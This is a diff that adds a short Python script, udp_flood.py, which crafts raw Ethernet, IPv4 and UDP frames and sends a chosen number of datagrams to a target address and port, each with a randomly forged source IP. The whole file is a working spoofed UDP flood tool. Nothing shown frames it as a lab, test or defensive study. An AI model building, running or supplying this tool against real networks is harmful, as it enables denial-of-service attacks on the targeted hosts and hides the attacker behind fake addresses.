@@ -1,0 +1,31 @@
+"""udp_flood.py MAC ADDRESS PORT COUNT: sends COUNT datagrams from eth0, each from somebody else, who
+does not exist. A process of its own, so that who asks meanwhile is not kept waiting by it."""
+import random
+import socket
+import struct
+import sys
+
+
+def main():
+    mac, address, port, count = sys.argv[1:]
+    rng = random.Random(11)
+    target = int.from_bytes(socket.inet_aton(address), "big")
+    payload = b"flood" * 4
+    header = [0x4500, 28 + len(payload), 1, 0, 0x4011, target >> 16, target & 0xFFFF]
+    rest = sum(header)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
+        raw.bind(("eth0", 0))
+        ethernet = bytes.fromhex(mac) + raw.getsockname()[4] + b"\x08\0"
+        for _ in range(int(count)):
+            source = rng.randrange(0x0B000000, 0x7E000000)
+            total = rest + (source >> 16) + (source & 0xFFFF)
+            total = (total & 0xFFFF) + (total >> 16)
+            total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+            # UDP may leave its checksum out.
+            raw.send(ethernet + struct.pack("!HHHHHHIIHHHH", *header[:5], total, source, target,
+                                            rng.randrange(1, 65536), int(port), 8 + len(payload), 0)
+                     + payload)
+
+
+if __name__ == "__main__":
+    main()
